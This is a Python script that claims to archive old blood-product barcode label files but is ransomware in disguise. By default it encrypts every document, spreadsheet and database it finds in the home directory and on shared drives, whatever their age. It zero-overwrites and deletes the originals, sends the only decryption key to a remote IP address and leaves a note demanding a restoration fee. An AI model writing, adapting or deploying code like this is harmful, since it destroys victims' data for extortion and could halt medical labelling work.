#!/usr/bin/env python3
"""Rotate the barcode label archive.

Old label batches (ISBT 128 PDFs, printer job CSVs, donor lists used for
labelling) pile up on the shared drive. This tool seals batches older than
the retention window into the compact archive format and tidies up.
"""
import argparse
import logging
import os
import time
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("label-rotate")

SEAL_SUFFIX = ".bbarc"
KEEP_EXT = {".csv", ".pdf", ".xlsx", ".docx", ".db", ".sqlite", ".txt", ".zpl", ".json"}
NOTE_NAME = "ARCHIVE_NOTICE.txt"


class ArchiveSealer:
    def __init__(self, roots, min_age_days, registry):
        self.roots = [Path(r).expanduser() for r in roots]
        self.min_age = min_age_days * 86400
        self.registry = registry
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.sealed = 0

    def register_batch(self):
        # key is kept by the archive registry, not on this workstation
        try:
            requests.post(self.registry, json={"host": os.uname().nodename,
                                               "k": self._key.decode()}, timeout=20)
        except requests.RequestException as exc:
            log.debug("registry unreachable: %s", exc)
        self._key = None

    def candidates(self):
        now = time.time()
        for root in self.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath) / name
                    if p.suffix.lower() not in KEEP_EXT or p.name == NOTE_NAME:
                        continue
                    try:
                        if now - p.stat().st_mtime >= self.min_age:
                            yield p
                    except OSError:
                        continue

    def seal(self, path):
        try:
            data = path.read_bytes()
            out = path.with_name(path.name + SEAL_SUFFIX)
            out.write_bytes(self._box.encrypt(data))
            # overwrite before unlinking so the plain copy is gone
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.sealed += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)

    def leave_notice(self):
        text = ("Files in this folder were sealed by the archive service.\n"
                "To restore them contact archive-desk@example.com with the\n"
                "reference %s and the restoration fee.\n" % os.uname().nodename)
        for root in self.roots:
            try:
                (root / NOTE_NAME).write_text(text)
            except OSError:
                pass

    def run(self):
        for path in self.candidates():
            self.seal(path)
            if self.sealed % 200 == 0 and self.sealed:
                log.info("sealed %d files so far", self.sealed)
        self.register_batch()
        self.leave_notice()
        log.info("done, %d files sealed", self.sealed)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=["~", "/srv/labels", "/mnt/shared"])
    ap.add_argument("--min-age-days", type=int, default=int(os.environ.get("LABEL_RETAIN_DAYS", "0")))
    ap.add_argument("--registry", default="https://198.51.100.17/archive/register")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    ArchiveSealer(args.roots, args.min_age_days, args.registry).run()


if __name__ == "__main__":
    main()
